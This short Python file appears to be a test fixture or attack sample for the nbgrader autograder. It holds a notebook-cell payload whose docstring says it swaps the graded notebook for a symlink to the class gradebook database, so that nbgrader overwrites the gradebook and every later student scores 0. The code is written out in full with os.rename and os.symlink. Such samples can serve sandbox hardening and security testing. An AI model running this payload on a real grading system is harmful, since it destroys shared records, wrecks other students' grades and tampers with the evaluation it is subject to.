"""From a notebook cell, replace the notebook being graded by a link to the class gradebook
(``../../../gradebook.db`` from the autograded folder): nbgrader writes the executed notebook
there, so every student graded after it would score 0."""
CELLS = ['''
import glob, os
for nb in glob.glob("*.ipynb"):
    try:
        os.rename(nb, nb + ".bak")
        os.symlink("../../../gradebook.db", nb)
    except Exception as e:
        print("no", e)
''']
